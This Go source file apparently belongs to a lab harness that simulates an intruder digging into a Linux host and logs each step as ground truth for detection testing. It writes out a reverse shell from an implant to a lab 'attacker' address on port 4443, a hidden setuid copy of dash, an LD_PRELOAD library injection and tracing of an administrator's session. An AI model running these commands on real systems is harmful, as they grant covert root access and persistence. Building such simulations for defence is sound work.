package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

const (
	shellPort  = 4443                    // where the attacker waits for a shell
	preloadLib = "/dev/shm/.libnss.so"   // a harmless library, in a place where none lies
	rootShell  = "/opt/.tools/root-help" // a shell with the setuid bit
	watchedLog = "/var/log/auth.log"
)

// digIn is what the attacker does beside the listeners, so as to stay, to see
// and to come back.
func (l *lab) digIn(i *intrusion, admin *session) {
	l.preload(i)
	l.reverseShell(i)
	l.setuidShell(i)
	l.traceAdmin(i, admin.login.PID)
}

// background starts a command in the attacker's session and returns its process id.
func (i *intrusion) background(command string) int {
	pid, err := strconv.Atoi(i.say(command + " & echo $!"))
	must(err, "%s", command)
	return pid
}

// preload starts a program of the host's own with a library that the attacker
// brought: a copy of zlib, which every Debian has.
func (l *lab) preload(i *intrusion) {
	start := time.Now()
	found, err := filepath.Glob(l.path("/usr/lib/*/libz.so.1"))
	must(err, "a library")
	if len(found) == 0 {
		must(os.ErrNotExist, "a library /usr/lib/*/libz.so.1")
	}
	i.say(fmt.Sprintf("cp -L %s %s && echo copied", strings.TrimPrefix(found[0], l.root), preloadLib))
	pid := i.background("LD_PRELOAD=" + preloadLib + " tail -f " + watchedLog + " </dev/null >/dev/null 2>&1")
	l.becomes(pid, "tail")
	await("the library to be mapped", func() bool { return l.grep(fmt.Sprintf("/proc/%d/maps", pid), preloadLib) > 0 })
	l.note(act{What: actPreloaded, Actor: "attacker", At: start, User: "root", Count: 1, PID: pid, Path: preloadLib})
}

// reverseShell has an implant connect to the attacker and become a shell, of
// which the attacker asks who it is.
func (l *lab) reverseShell(i *intrusion) {
	start := time.Now()
	waiting := listen(attacker4, shellPort)
	out := dropDir + "/shell"
	i.say(fmt.Sprintf("/dev/shm/.cache implant shell %s:%d >%s 2>&1 & echo started", attacker4, shellPort, out))
	var err error
	i.shell, err = waiting.Accept()
	must(err, "the shell")
	must(waiting.Close(), "the shell")
	pid := l.implantPID(out)
	must(i.shell.SetDeadline(time.Now().Add(stepLimit)), "the shell")
	_, err = i.shell.Write([]byte("id -un\n"))
	must(err, "the shell")
	answer := make([]byte, len("root\n"))
	_, err = i.shell.Read(answer)
	must(err, "the shell")
	if string(answer) != "root\n" {
		must(fmt.Errorf("%q", answer), "who the shell is")
	}
	i.pids["shell"] = pid
	l.note(act{What: actShell, Actor: "attacker", At: start, From: attacker4, User: "root", Count: 1, PID: pid, Port: shellPort,
		Detail: map[string]string{"from": fmt.Sprint(i.shell.RemoteAddr().(*net.TCPAddr).Port)}})
}

// setuidShell keeps a copy of the shell that makes root of whoever runs it, and
// has the weak user run it. It waits at a pipe to which nobody writes.
func (l *lab) setuidShell(i *intrusion) {
	start := time.Now()
	pipe := filepath.Dir(rootShell) + "/orders"
	i.say(fmt.Sprintf("mkdir -p %s && cp /bin/dash %s && chmod 4755 %s && mkfifo %s && echo copied", filepath.Dir(rootShell), rootShell, rootShell, pipe))
	pid := i.background("setpriv --reuid=" + weakUser + " --regid=" + weakUser + " --clear-groups " + rootShell +
		` -p -c "read order <` + pipe + `" </dev/null >/dev/null 2>&1`)
	l.becomes(pid, filepath.Base(rootShell))
	l.note(act{What: actSetuid, Actor: "attacker", At: start, User: weakUser, Count: 1, PID: pid, Path: rootShell})
}

// traceAdmin looks into the administrator's session.
func (l *lab) traceAdmin(i *intrusion, pid int) {
	start := time.Now()
	out := dropDir + "/trace"
	i.say(fmt.Sprintf("/dev/shm/.cache implant trace %d >%s 2>&1 & echo started", pid, out))
	i.pids["trace"] = l.implantPID(out)
	l.note(act{What: actTraces, Actor: "attacker", At: start, User: "root", Count: 1, PID: i.pids["trace"], Path: "/dev/shm/.cache",
		Detail: map[string]string{"traced": strconv.Itoa(pid)}})
}

// becomes waits until a process that is being started runs its program.
func (l *lab) becomes(pid int, comm string) {
	await(fmt.Sprintf("process %d to become %s", pid, comm), func() bool {
		return strings.TrimSpace(l.read(fmt.Sprintf("/proc/%d/comm", pid))) == comm
	})
}
